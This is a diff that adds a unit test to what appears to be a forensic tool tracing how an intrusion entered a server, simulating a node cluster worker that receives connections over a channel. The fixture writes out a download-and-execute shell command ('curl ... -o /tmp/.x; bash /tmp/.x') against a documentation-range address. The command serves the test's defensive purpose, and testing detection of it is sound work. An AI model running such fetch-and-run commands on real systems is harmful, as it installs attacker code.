@@ -269,3 +269,32 @@ def test_who_came_in_by_what_may_be_a_thread_is_named_with_that_doubt(tmp_path: 
     assert f"Way in     {PEER}:40000/tcp" in story
     assert "; perhaps pid 201 is a thread of pid 200: not proved" in story
     assert "pid 201 may be a thread of pid 200" in story
+
+
+def test_a_server_that_hands_connections_to_a_worker_over_a_channel(tmp_path: Path) -> None:
+    """As node's cluster does: the worker was begun before the peers came, and no record shows which connection it was given."""
+    script = Script()
+    primary = server(script, 3000)
+    primary.pairs(20, 21)
+    worker = primary.forks(150)
+    worker.dups(21, 3)
+    worker.execs("/usr/bin/node", "node", "worker.js")
+    for number, peer in enumerate(("10.2.0.5", "10.2.0.6", PEER)):
+        script.wait(3_000)
+        primary.accepts(3, 30 + number, peer, 40_000 + number)
+        primary.call("sendmsg", 20, 0x7FFC0000, exit=64)
+        worker.call("recvmsg", 3, 0x7FFC0000, exit=64)
+    shell = worker.forks(200)
+    shell.execs("/bin/sh", "sh", "-c", "curl -s http://203.0.113.9/x -o /tmp/.x; bash /tmp/.x")
+    curl = shell.forks(201)
+    curl.execs("/usr/bin/curl", "curl", "-s", "http://203.0.113.9/x", "-o", "/tmp/.x")
+    curl.sockets(3)
+    curl.connects(3, "203.0.113.9", 80)
+    curl.opens("/tmp/.x", NEW, fd=4, created=True)
+    curl.exits()
+    last = shell.forks(202)
+    last.execs("/bin/bash", "bash", "/tmp/.x")
+    last.opens("/tmp/.x", fd=3)
+    story = story_of(tmp_path, script, "^bash /tmp/.x$")
+    assert f"Way in     {PEER}:40002/tcp" in story
+    assert "external address, 12 ms before its first effect" in story
